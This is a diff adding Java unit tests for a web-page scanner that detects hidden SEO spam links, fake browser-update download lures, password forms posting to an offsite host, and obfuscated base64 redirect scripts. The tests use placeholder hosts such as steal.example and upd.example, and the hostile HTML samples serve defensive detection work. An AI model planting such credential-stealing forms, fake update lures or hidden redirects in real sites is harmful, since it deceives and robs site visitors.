@@ -123,4 +123,62 @@ class PageAnalyzerTest {
     String unclosed = "<table>".repeat(20_000) + "<select><option>".repeat(10_000);
     assertThat(analyze(unclosed)).isNotNull();
   }
+
+  @Test
+  void moreWaysToHideSpamButNotMenusOrLayout() {
+    String links = "<a href=\"https://casino-a.example/\">オンラインカジノ</a><a href=\"https://casino-b.example/\">ネットカジノ</a>";
+    for (String style : List.of("transform:scale(0)", "max-height:0;overflow:hidden", "position:fixed;bottom:-3000px",
+        "position:absolute;clip:rect(0 0 0 0)", "opacity:0.0", "font-size:0.1px")) {
+      assertThat(checks("<div style=\"" + style + "\">" + links + "</div>")).as(style).contains("web.seo-spam");
+    }
+    assertThat(checks("<p>本文</p><noscript>" + links + "</noscript>")).contains("web.seo-spam");
+    assertThat(checks("<div id=\"x9\"><a href=\"https://a.example/\">a</a><a href=\"https://b.example/\">b</a><a "
+        + "href=\"https://c.example/\">c</a></div><script>document.getElementById('x9').style.display='none'</script>"))
+        .contains("web.seo-spam");
+    assertThat(checks("<map name=\"m\"><area href=\"https://casino-a.example/\" alt=\"オンラインカジノ\"></map>"))
+        .contains("web.seo-spam");
+    // a centred popup's margin is layout; a hidden drawer menu is mostly the site's own pages
+    assertThat(checks("<div style=\"position:absolute;left:50%;margin-left:-320px\"><a href=\"https://a.example/\">a</a>"
+        + "<a href=\"https://b.example/\">b</a><a href=\"https://c.example/\">c</a></div>")).isEmpty();
+    assertThat(checks("<div style=\"display:none\"><a href=\"/\">ホーム</a><a href=\"/menu\">メニュー</a><a href=\"/access\">"
+        + "アクセス</a><a href=\"/about\">会社案内</a><a href=\"https://temple.example/\">長谷寺</a><a href=\"https://rail.example/\">"
+        + "江ノ電</a><a href=\"https://tourism.example/\">観光協会</a></div>")).isEmpty();
+    assertThat(checks("<p><a href=\"https://shop.example/\">シャネル バッグ 激安 通販</a></p>")).contains("web.seo-spam");
+    assertThat(checks("<p><a href=\"https://shop.example/\">ルイヴィトン 財布</a></p>")).isEmpty();
+  }
+
+  @Test
+  void fakeBrowserUpdates() {
+    assertThat(checks("<div><h1>お使いのブラウザは最新ではありません</h1><p><a href=\"https://upd.example/ChromeSetup.zip\">"
+        + "今すぐ更新</a></p></div>")).contains("web.fake-update");
+    assertThat(checks("<div><h2>Your browser is out of date</h2><a href=\"http://upd.example/Update.exe\">Update</a></div>"))
+        .contains("web.fake-update");
+    assertThat(checks("<p>最新版カタログ <a href=\"https://maker.example/catalog2026.zip\">ダウンロード</a></p>")).isEmpty();
+    assertThat(checks("<p>ブラウザを最新版に更新してください。<a href=\"https://www.microsoft.com/edge\">Edge</a></p>")).isEmpty();
+  }
+
+  @Test
+  void formActionsPreloadsDataScriptsAndIocHosts() {
+    PageFacts f = analyze("<form action=\"/entry\"><input type=\"password\" name=\"pw\"><button formaction="
+        + "\"https://steal.example/e\">登録</button></form><link rel=\"modulepreload\" href=\"https://esm.example/m.js\">"
+        + "<img src=\"https://img.bad.example/b.gif\" width=\"300\">"
+        + "<script src=\"data:text/javascript;base64," + java.util.Base64.getEncoder().encodeToString(
+            "window.location.href='https://casino.example/';".getBytes()) + "\"></script>");
+    assertThat(f.resources()).extracting(r -> r.kind() + " " + Sites.host(r.url())).contains("FORM steal.example",
+        "SCRIPT esm.example");
+    assertThat(f.observations()).extracting(Observation::check).contains("web.form-offsite", "web.redirect-offsite");
+    assertThat(f.hostsMentioned()).contains("img.bad.example");
+    assertThat(checks("<meta http-equiv=\"refresh\" content=\"3; URL = 'https://fake.example/'\">")).contains("web.redirect-offsite");
+  }
+
+  @Test
+  void aNormalPageBehindABotProtectionServiceIsStillChecked() {
+    String page = "<html><head><title>会社</title></head><body>" + "<p>当社は東大阪の町工場です。</p>".repeat(100)
+        + "<a href=\"/a\">a</a><a href=\"/b\">b</a><a href=\"/c\">c</a><a href=\"/d\">d</a><a href=\"/e\">e</a>"
+        + "<script>a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';</script></body></html>";
+    assertThat(analyze(page).blockedPage()).isFalse();
+    assertThat(analyze("<html><head><title>Just a moment...</title></head><body><div id=\"cf-chl-widget\">Checking your "
+        + "browser</div><script src=\"/cdn-cgi/challenge-platform/h/b/orchestrate/jsch/v1\"></script></body></html>")
+        .blockedPage()).isTrue();
+  }
 }
